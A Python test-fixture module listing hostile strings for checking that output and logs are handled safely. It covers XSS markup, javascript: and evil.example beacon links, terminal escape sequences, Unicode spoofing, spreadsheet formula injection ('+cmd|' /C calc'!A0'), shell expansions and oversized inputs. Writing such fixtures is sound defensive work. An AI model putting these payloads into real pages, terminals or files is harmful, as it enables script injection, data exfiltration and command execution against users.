"""Texts that a model, a tool or a server may say to do harm, or by accident: put them wherever text goes.

None of them may run, fetch anything, change what stands around it, or stop whoever reads it; and the log keeps them to
the character (half surrogates, which UTF-8 cannot hold, become U+FFFD).
"""

from collections.abc import Mapping

MARKUP = (
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<details open ontoggle=steal()>x</details>",
    "<style>body{display:none}</style>",
    "<object data='javascript:steal()'></object><embed src=//evil.example/x>",
    "<form action=//evil.example><input name=q value=secret autofocus onfocus=steal()></form>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
    "![beacon](https://evil.example/?q=secret)",
    "![x](javascript:steal())",
    "[click](javascript:steal())",
    "[click](JaVaScRiPt:steal())",
    "[click](java\tscript:steal())",
    "[click](&#106;avascript:steal())",
    "[click](data:text/html,<script>steal()</script>)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "[click](/api/shutdown)",
    "<a href='javascript:steal()'>x</a>",
    '<https://ok.example/"onmouseover=steal()>',
    "`<script>steal()</script>`",
    "```html\n<script>steal()</script>\n```",
    '```"><script>steal()</script>\nx\n```',
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=y> | c |",
    "# <svg onload=steal()>",
    "</pre></div></body></html><!-- <script>steal()</script> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "&lt;script&gt;",
    "[ref]: javascript:steal()\n\n[ref]",
    "$\\href{javascript:steal()}{x}$ $$\\unicode{<img src=x onerror=steal()>}$$ \\(x\\) \\[\\require{html}\\]",
)
"""Markdown and HTML."""

TERMINAL = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;c3RlYWw=\x07",
    "\x9b31mC1\x9d0;pwned\x9c",
    "over\rwritten\b\b\b\x7f\x0c\x0b",
    "NUL \0 in the middle",
)
"""What a terminal would obey."""

UNICODE = (
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff and \u00adsoft",
    "tags \U000e0041\U000e0042 and \U0001f9d1\u200d\U0001f4bb",
    "e" + "\u0301" * 200,
    "\u2028line\u2029paragraph\x85",
    "\uffff\ufffe\U0010ffff",
    "half \ud800 a pair \udc00",
)
"""What looks like something else, or like nothing."""

FORMULAS = ("=1+1", '=HYPERLINK("//evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
"""What a spreadsheet would compute."""

MATHTEXT = ("$", "$x", "$\\frac{$", "$\\undefined{x}$", "$$", "\\$", "a_b^c $ {", "%s %(x)s {0} {x!r}", "${HOME} `id`")
"""What plots, formats and shells would read."""

LARGE = {
    "nesting": "[" * 5_000 + "]" * 5_000,
    "quotes": ">" * 5_000 + " deep",
    "lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "emphasis": "*_" * 5_000,
    "links": "[x](" * 3_000,
    "keys": "sk-" * 20_000,
    "ticks": "".join("`" * length + " " for length in range(1, 300)),
}
"""What takes far longer than it looks, if it is done carelessly."""

TEN_MEGABYTES = 10_000_000


def long_line(length: int = TEN_MEGABYTES) -> str:
    """One line of so many characters."""
    return ("<b>word</b> & " * (length // 14 + 1))[:length]


HOSTILE: Mapping[str, str] = {
    **{
        f"{name}-{index}": text
        for name, texts in {
            "markup": MARKUP,
            "terminal": TERMINAL,
            "unicode": UNICODE,
            "formula": FORMULAS,
            "mathtext": MATHTEXT,
        }.items()
        for index, text in enumerate(texts)
    },
    **LARGE,
}
"""All but the long line, by name."""
